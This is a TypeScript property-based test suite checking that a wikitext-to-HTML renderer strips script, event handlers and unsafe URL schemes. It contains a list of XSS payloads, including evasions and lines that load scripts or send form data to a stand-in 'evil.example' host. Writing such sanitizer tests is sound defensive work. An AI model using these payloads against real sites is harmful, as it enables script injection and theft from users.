import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderWikitextHtml, type HtmlRenderContext } from '../../../src/wikitext/render-html.ts';
import { enwiki } from './wikis.ts';

/**
 * Hostile wikitext: random mixes of script-carrying fragments and wikitext syntax, rendered, then
 * read back by a strict HTML reader written here (no HTML parser is installed). The reader refuses
 * anything a browser could read in more than one way (a stray `<` or `>`, an unquoted attribute,
 * a bare `&`), so what it accepts is the DOM a browser builds; on that DOM the test asserts the
 * safety contract: only listed elements, no event handler or style attribute, every `href` with a
 * safe scheme, every `src` one the file callback made.
 */

/** Every element the renderer may output (the Sanitizer's list plus the renderer's own markup). */
const ALLOWED = new Set(
  (
    'div p h1 h2 h3 h4 h5 h6 span a sup sub ol ul li dl dt dd table tr td th caption thead tbody tfoot ' +
    'figure figcaption img pre code cite b i u s del ins small big kbd var samp tt br hr wbr blockquote q ' +
    'abbr dfn mark ruby rb rt rp rtc center font strike em strong bdi bdo data time'
  ).split(' '),
);
const SAFE_SCHEMES = new Set(
  'http https ftp ftps mailto news irc ircs gopher nntp telnet worldwind urn xmpp sip sips sms tel geo bitcoin magnet matrix mms redis sftp ssh svn git'.split(
    ' ',
  ),
);

interface Element {
  name: string;
  attributes: Map<string, string>;
}

const ENTITY = /^&(?:#\d+|#x[0-9a-fA-F]+|[a-zA-Z][a-zA-Z0-9]*);/;

function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/** The elements of `html`, or an error naming the first thing a strict reader refuses. */
function readStrictly(html: string): Element[] {
  const elements: Element[] = [];
  let i = 0;
  while (i < html.length) {
    const c = html[i];
    if (c === '>') throw new Error(`stray > at ${i}: ${html.slice(i - 40, i + 10)}`);
    if (c === '&') {
      if (!ENTITY.test(html.slice(i, i + 12))) throw new Error(`bare & at ${i}: ${html.slice(i, i + 20)}`);
      i++;
      continue;
    }
    if (c !== '<') {
      i++;
      continue;
    }
    const rest = html.slice(i, i + 4000);
    const close = /^<\/([a-z][a-z0-9]*)>/.exec(rest);
    if (close) {
      i += close[0].length;
      continue;
    }
    const open = /^<([a-z][a-z0-9]*)((?: [a-z][a-z-]*="[^"<>]*")*)>/.exec(rest);
    if (!open) throw new Error(`stray < at ${i}: ${rest.slice(0, 60)}`);
    const attributes = new Map<string, string>();
    for (const m of (open[2] ?? '').matchAll(/ ([a-z][a-z-]*)="([^"]*)"/g)) {
      if (attributes.has(m[1] ?? '')) throw new Error(`duplicate attribute ${m[1]}`);
      attributes.set(m[1] ?? '', decode(m[2] ?? ''));
    }
    elements.push({ name: open[1] ?? '', attributes });
    i += open[0].length;
  }
  return elements;
}

function hasSafeScheme(url: string): boolean {
  // Browsers ignore these inside a scheme (`java\tscript:`), so the test does too.
  // eslint-disable-next-line no-control-regex
  const squeezed = url.replace(/[\x00-\x20]/g, '');
  if (squeezed.startsWith('#') || (squeezed.startsWith('/') && !squeezed.startsWith('//'))) return true;
  if (squeezed.startsWith('//')) return true;
  const scheme = /^([a-zA-Z][a-zA-Z0-9+.-]*):/.exec(squeezed);
  return scheme !== null && SAFE_SCHEMES.has((scheme[1] ?? '').toLowerCase());
}

/** Asserts the safety contract on one rendering; returns the elements for further checks. */
function assertSafe(html: string, sources: ReadonlySet<string>): Element[] {
  const elements = readStrictly(html);
  for (const e of elements) {
    expect(ALLOWED, `element <${e.name}>`).toContain(e.name);
    for (const [name, value] of e.attributes) {
      expect(name.startsWith('on'), `attribute ${name} on <${e.name}>`).toBe(false);
      expect(['style', 'srcset', 'formaction', 'action', 'background', 'poster', 'xmlns']).not.toContain(
        name,
      );
      if (name === 'href') expect(hasSafeScheme(value), `href ${value}`).toBe(true);
      if (name === 'src') expect(sources, `src ${value}`).toContain(value);
    }
    if (e.name === 'img') expect(e.attributes.has('src')).toBe(true);
  }
  return elements;
}

function hostileContext(sources: Set<string>): HtmlRenderContext {
  return {
    wikitext: enwiki(),
    title: 'Hostile',
    pageUrl: (title) => `/wiki/${encodeURIComponent(title.replace(/ /g, '_'))}`,
    pageExists: (_ns, title) => title.length % 2 === 0,
    fileRendition: (name, box) => {
      if (name.startsWith('Missing')) return null;
      const url = `/images/${box.width ?? 0}px-${encodeURIComponent(name)}`;
      sources.add(url);
      return { url, width: box.width ?? 640, height: 480 };
    },
  };
}

const DANGEROUS = [
  '<script>window.__pwned=1</script>',
  '<script src="//evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="//evil.example"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=x></form>',
  '<style>body{background:url(//evil.example)}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<span style="width: expression(alert(1))">s</span>',
  '<div style="background:url(javascript:alert(1))">d</div>',
  '<span onmouseover="alert(1)" title="x">t</span>',
  '<span title="a" onclick=alert(1)>',
  '<div title=`x`onclick=alert(1)>',
  '<b title="x\' onclick=\'alert(1)">',
  '<span id="x" class=\'y" onfocus="a\'>',
  '<p/onclick=alert(1)>',
  '<table onclick="alert(1)"><tr><td>c</td></tr></table>',
  '[javascript:alert(1) x]',
  '[javascript:alert(1)]',
  '[vbscript:msgbox(1) v]',
  '[data:text/html;base64,PHNjcmlwdD4= d]',
  '[&#106;avascript:alert(1) e]',
  '[http://x.example/"onmouseover="alert(1) q]',
  '[//evil.example/x y]',
  'javascript:alert(1)',
  'http://a.example/<script>',
  '[[javascript:alert(1)]]',
  '[[File:x.jpg|link=javascript:alert(1)]]',
  '[[File:x.jpg|link=data:text/html,x|thumb|c]]',
  '[[File:x.jpg|alt="><script>alert(1)</script>]]',
  '[[File:Missing.jpg|thumb|<script>x</script>]]',
  '[[Media:x.jpg|m]]',
  '{| onclick="alert(1)" style="x"\n|- onmouseover=alert(1)\n| onclick=alert(1) | c\n|}',
  '{{Infobox x|name=<script>alert(1)</script>|image=x.jpg|url=javascript:alert(1)}}',
  '{{cite web|url=javascript:alert(1)|title=t}}',
  '<ref name="x\\" onclick=alert(1)">r</ref>',
  '<ref group="<script>">g</ref>',
  '<references group="\'><svg onload=1>"/>',
  '<nowiki><script>alert(1)</script></nowiki>',
  '<pre onclick=alert(1)><script></pre>',
  '<syntaxhighlight lang="js"></syntaxhighlight><script>',
  '<gallery>\nx.jpg|<img src=x onerror=1>\n</gallery>',
  '<poem><script>alert(1)</script></poem>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '== <script>h</script> ==',
  "'''<b onclick=x>'''",
  '<!-- <script> -->',
  '<!--',
  '\u0000\u0001\u0002\u007f',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>',
  '<div title="a>b" onclick="c">',
  '<font color="red" face="x" onload=1>f</font>',
  '<abbr title="javascript:alert(1)">a</abbr>',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
];

const SYNTAX = [
  '[[',
  ']]',
  '|',
  '{|',
  '|}',
  '|-',
  '!',
  '!!',
  '||',
  '\n',
  '\n\n',
  "''",
  "'''",
  '{{',
  '}}',
  '{{{',
  '}}}',
  '=',
  '==',
  '*',
  '#',
  ':',
  ';',
  ' ',
  '<',
  '>',
  '/',
  '"',
  "'",
  '`',
  '&',
  '&#',
  '[',
  ']',
  'http://',
  '//',
  '<ref>',
  '</ref>',
  '<nowiki>',
  '</nowiki>',
  '<references/>',
  '<b>',
  '</b>',
  '<div>',
  '</div>',
  'File:',
  'Category:',
  'x.jpg',
  '----',
  '__NOTOC__',
  'text',
];

const fragment = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...DANGEROUS) },
  { weight: 4, arbitrary: fc.constantFrom(...SYNTAX) },
  { weight: 1, arbitrary: fc.string({ maxLength: 6 }) },
);

describe('hostile wikitext', () => {
  it('renders every fragment alone within the safety contract', () => {
    for (const text of DANGEROUS) {
      const sources = new Set<string>();
      assertSafe(renderWikitextHtml(text, hostileContext(sources)).html, sources);
    }
  });

  it('renders random mixes of dangerous fragments and wikitext syntax within the safety contract', () => {
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 30 }), (parts) => {
        const sources = new Set<string>();
        assertSafe(renderWikitextHtml(parts.join(''), hostileContext(sources)).html, sources);
      }),
      { numRuns: 1500 },
    );
  });

  it('never lets a script element or handler through, however the fragments nest', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...DANGEROUS), { minLength: 2, maxLength: 8 }), (parts) => {
        const sources = new Set<string>();
        const html = renderWikitextHtml(parts.join('\n'), hostileContext(sources)).html;
        expect(html).not.toMatch(/<(script|style|iframe|object|embed|link|meta|base|form|svg|math)\b/i);
        const handlers = assertSafe(html, sources).flatMap((e) =>
          [...e.attributes.keys()].filter((name) => name.startsWith('on')),
        );
        expect(handlers).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it('has a checker that refuses what it must (a test of the test)', () => {
    expect(() => readStrictly('<p onclick=x>')).toThrow();
    expect(() => readStrictly('a & b')).toThrow();
    expect(() => readStrictly('<scr<ipt>')).toThrow();
    expect(() => assertSafe('<script>', new Set())).toThrow();
    expect(() => assertSafe('<a href="javascript:x">', new Set())).toThrow();
    expect(() => assertSafe('<a href="java&#x09;script:x">', new Set())).toThrow();
    expect(() => assertSafe('<img src="/images/x">', new Set())).toThrow();
    expect(() => assertSafe('<span onclick="x">', new Set())).toThrow();
  });
});
